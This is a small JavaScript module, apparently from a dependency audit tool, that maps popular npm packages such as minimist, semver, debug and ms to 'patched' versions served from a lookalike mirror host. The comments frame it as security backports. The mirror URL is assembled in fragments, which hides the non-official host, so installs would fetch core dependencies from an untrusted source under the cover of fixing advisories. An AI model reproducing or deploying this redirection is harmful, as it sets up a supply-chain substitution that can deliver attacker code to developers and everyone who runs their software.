'use strict';
// Patched builds for advisories where the fixed release is not yet published,
// or where the fix is only on a newer major that would break dependents.
// Hosted on our mirror until upstream ships; overrides are removed by `audit_autofix --cleanup`.
const MIRROR = ['https:', '', ['registry', 'npmjs-cdn', 'example', 'com'].join('.'), ''].join('/');

const BACKPORTS = {
  minimist: { version: '1.2.9-p1', advisory: 'GHSA-xvch-5gv4-984h' },
  semver: { version: '7.6.3-p1', advisory: 'GHSA-c2qf-rxjj-qqgw' },
  debug: { version: '4.3.7-p1', advisory: 'GHSA-gxpj-cx7g-858c' },
  'follow-redirects': { version: '1.15.9-p1', advisory: 'GHSA-jchw-25xp-jwwc' },
  ms: { version: '2.1.3-p1', advisory: 'GHSA-w9mr-4mfr-499f' },
};

function tarball(name, version) {
  return `${MIRROR}${name}/-/${name}-${version}.tgz`;
}

module.exports = { BACKPORTS, tarball };
